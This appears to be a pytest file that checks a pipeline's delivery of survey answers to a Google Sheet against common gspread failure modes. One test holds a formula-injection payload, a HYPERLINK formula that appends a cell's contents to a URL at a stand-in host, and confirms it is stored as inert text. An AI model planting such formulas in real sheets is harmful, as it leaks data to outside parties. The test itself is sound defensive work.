"""The ways in which one usually writes to a Google Sheet, how each goes wrong, and what the delivery does there."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import gspread
import pytest

from pipeline.collect.answers import HEADER
from pipeline.collect.delivery import Delivery
from pipeline.collect.journal import Journal, Round
from tests.pipeline.collect.conftest import Clock
from tests.pipeline.collect.team_sheet import TAB, TeamSheet, release, team_sheet
from tests.sheets_fixtures import Sheets

NAIVE = "naive@throw-away.example"
WHY = "Warum betrifft mich das Thema?"


@dataclass
class Scene:
    """A journal that delivers to a sheet, and the same spreadsheet in the hands of a script of the usual kind."""

    sheet: TeamSheet
    journal: Journal
    delivery: Delivery
    offices: list[str]
    clock: Clock
    naive: gspread.Worksheet

    def deliver(self, number: int, **answers: Any) -> str:
        """Release answers of an office and see them delivered."""
        sent = release(self.journal, self.offices[number], **answers)
        self.sheet.run(self.delivery, self.journal)
        self.clock.go_on(minutes=1)
        return sent

    def team_tab(self) -> gspread.Worksheet:
        return self.naive.spreadsheet.worksheet(TAB)

    def by_id(self) -> dict[str, str]:
        """What stands under `WHY`, whichever column it is."""
        return dict(zip(self.sheet.ids(), self.sheet.column(WHY), strict=True))


@pytest.fixture
def database(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'journal.sqlite'}"


@pytest.fixture
def scene(journal: Journal, round_: Round, clock: Clock) -> Iterator[Scene]:
    with team_sheet(clock) as sheet:
        sheet.control("POST", "edit", {"do": "share", "with": NAIVE})
        client = Sheets(sheet.server.world.base_url).client(NAIVE)
        offices = [entry.id for entry in journal.roster(round_.id)]
        naive = client.open_by_key(sheet.settings.spreadsheet).sheet1
        yield Scene(sheet, journal, sheet.delivery(journal), offices, clock, naive)


def test_table_drift(scene: Scene) -> None:
    # An answer that is missing leaves an empty cell; append_row takes what follows it for a table of its own.
    places = [scene.naive.append_row(["id", "", "Text"])["updates"]["updatedRange"] for _ in range(3)]
    assert [place.partition("!")[2] for place in places] == ["A1:C1", "C2:E2", "E3:G3"]
    # Offices that leave almost everything out stand under the headings all the same.
    sent = [scene.deliver(number, influence=3) for number in range(3)]
    assert [row[0] for row in scene.sheet.rows()[1:]] == sent


def test_a_filter_that_swallows_rows(scene: Scene) -> None:
    first = scene.deliver(0, why_affected="zuerst")
    scene.sheet.edit("set_filter", hide=[1])
    scene.sheet.fault("lost_append", times=2, args={"under_filter": True})
    # The reply says that a row was written, and nothing was.
    assert scene.team_tab().append_row(["x"], table_range="A1")["updates"]["updatedRows"] == 1
    assert scene.sheet.ids() == [first]
    second = scene.deliver(1, why_affected="zuletzt")
    assert scene.sheet.ids() == [first, second]


@pytest.mark.parametrize(("typed", "naively"), [("4,5", 45), ("00123", 123), ("1e3", 1000.0)])
def test_numericise(scene: Scene, typed: str, naively: object) -> None:
    scene.deliver(0, why_affected=typed)
    assert scene.team_tab().get_all_records()[0][WHY] == naively
    head, row = scene.delivery._sheet.read(TAB)
    assert row[head.index(WHY)] == typed


def test_formula_injection(scene: Scene) -> None:
    text = '=HYPERLINK("http://example.org/?"&A1;"Hier klicken")'
    scene.naive.append_row([text], value_input_option="USER_ENTERED")
    assert scene.naive.acell("A1").value == "Hier klicken"
    scene.deliver(0, why_affected=text)
    assert scene.sheet.column(WHY) == [text]


def test_one_answer_of_50001_characters(scene: Scene) -> None:
    with pytest.raises(gspread.exceptions.APIError, match="50000 characters"):
        scene.naive.append_rows([["short"], ["x" * 50_001], ["short"]])
    assert scene.naive.get_all_values() == [[]]  # all three are gone
    sent = [release(scene.journal, office, why_affected="x" * 5) for office in scene.offices[:2]]
    scene.deliver(2, why_affected="x" * 50_001)
    assert sorted(scene.sheet.ids()) == sorted(sent)


def test_moved_columns(scene: Scene) -> None:
    first = scene.deliver(0, why_affected="zuerst")
    place = HEADER.index(WHY)
    scene.sheet.edit("move_columns", at=place, to=1)
    scene.team_tab().append_row(["by position", *[""] * (place - 1), "zuletzt"], table_range="A1")
    assert scene.sheet.column(WHY) == ["zuerst", ""]
    scene.sheet.edit("delete_rows", at=2)
    second = scene.deliver(1, why_affected="zuletzt")
    assert scene.by_id() == {first: "zuerst", second: "zuletzt"}


def test_two_columns_without_a_heading(scene: Scene) -> None:
    first = scene.deliver(0, why_affected="zuerst")
    scene.sheet.edit("insert_columns", at=2, count=2)
    scene.sheet.edit("set_cell", cell="C2", value="angerufen")
    with pytest.raises(gspread.exceptions.GSpreadException, match="duplicates"):
        scene.team_tab().get_all_records()
    second = scene.deliver(1, why_affected="zuletzt")
    assert scene.by_id() == {first: "zuerst", second: "zuletzt"}
    assert len(scene.delivery._sheet.read(TAB)) == 3
